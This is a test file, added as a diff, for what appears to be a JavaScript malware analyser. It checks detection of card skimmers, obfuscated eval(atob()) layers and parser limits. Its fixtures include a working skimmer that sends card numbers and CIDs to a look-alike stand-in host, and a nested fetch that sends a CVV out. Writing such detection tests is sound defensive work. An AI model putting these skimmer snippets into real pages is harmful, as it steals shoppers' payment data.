@@ -1,0 +1,73 @@
+import { describe, test } from 'node:test';
+import assert from 'node:assert/strict';
+import { analyzeSource, inspectSource } from '../../src/analyze/pipeline.ts';
+import { defaultModel } from '../../src/analyze/score/default-model.ts';
+
+const skimmer = `document.querySelector("#place-order").addEventListener("click", function () {
+  var card = document.getElementById("cc_number").value + "|" + document.getElementById("cc_cid").value;
+  new Image().src = "https://g00gle-analytics.example/c.gif?d=" + btoa(card);
+});`;
+
+describe('pipeline', () => {
+  test('a plain skimmer is malicious, with evidence naming line, source, sink and destination', () => {
+    const result = analyzeSource(skimmer, { model: defaultModel });
+    assert.ok(result.score < 50, `score ${result.score}`);
+    assert.ok(result.scores.magecart <= result.scores.malware);
+    const flow = result.evidence.find((item) => item.kind === 'flow');
+    assert.ok(flow);
+    assert.equal(flow.line, 3);
+    assert.match(flow.message, /#cc_number|#cc_cid/);
+    assert.match(flow.message, /Image\.src/);
+    assert.match(flow.message, /g00gle-analytics\.example/);
+  });
+
+  test('a payload hidden in eval(atob(...)) is unpacked and its evidence points at the eval line', () => {
+    const wrapped = `var a = 1;\neval(atob("${Buffer.from(skimmer).toString('base64')}"));`;
+    const result = analyzeSource(wrapped, { model: defaultModel });
+    assert.equal(result.decodedLayers, 1);
+    const flow = result.evidence.find((item) => item.kind === 'flow');
+    assert.ok(flow);
+    assert.equal(flow.line, 2);
+    assert.equal(flow.layer, 1);
+    assert.match(flow.snippet ?? '', /new Image\(\)\.src/);
+    assert.ok(result.score < 50);
+  });
+
+  test('nested layers stop at the depth limit instead of recursing forever', () => {
+    let code = 'fetch("https://e.example/" + document.getElementById("cvv").value);';
+    for (let i = 0; i < 14; i++) code = `eval(${JSON.stringify(code)});`;
+    const result = inspectSource(code);
+    assert.equal(result.truncated, true);
+    assert.ok(result.decodedLayers <= 10);
+  });
+
+  test('a truncated script is still analysed from what the tolerant parser recovers', () => {
+    const broken = `${skimmer}\nfunction tail() { var x = {`;
+    const result = analyzeSource(broken, { model: defaultModel });
+    assert.equal(result.strict, false);
+    assert.ok(result.parseError);
+    assert.ok(result.evidence.some((item) => item.kind === 'flow'));
+  });
+
+  test('ordinary form code that posts to its own origin scores benign', () => {
+    const code = `document.querySelector("form").addEventListener("submit", function (e) {
+      if (!document.getElementById("email").value) { e.preventDefault(); alert("Email required"); }
+    });`;
+    const result = analyzeSource(code, { model: defaultModel });
+    assert.ok(result.score >= 50, `score ${result.score}`);
+  });
+
+  test('scores are integers from 1 to 99 for every class', () => {
+    for (const code of [skimmer, '', 'var x = 1;', 'while(true){}']) {
+      const result = analyzeSource(code, { model: defaultModel });
+      for (const value of [result.score, ...Object.values(result.scores)]) {
+        assert.ok(Number.isInteger(value) && value >= 1 && value <= 99, String(value));
+      }
+    }
+  });
+
+  test('nesting deeper than the stack is a coded error, not a crash', () => {
+    const deep = `y = ${Array.from({ length: 50_000 }, (_, i) => `a${i}`).join(' + ')};`;
+    assert.throws(() => inspectSource(deep), (error: { code?: string }) => error.code === 'SG_TOO_LARGE');
+  });
+});
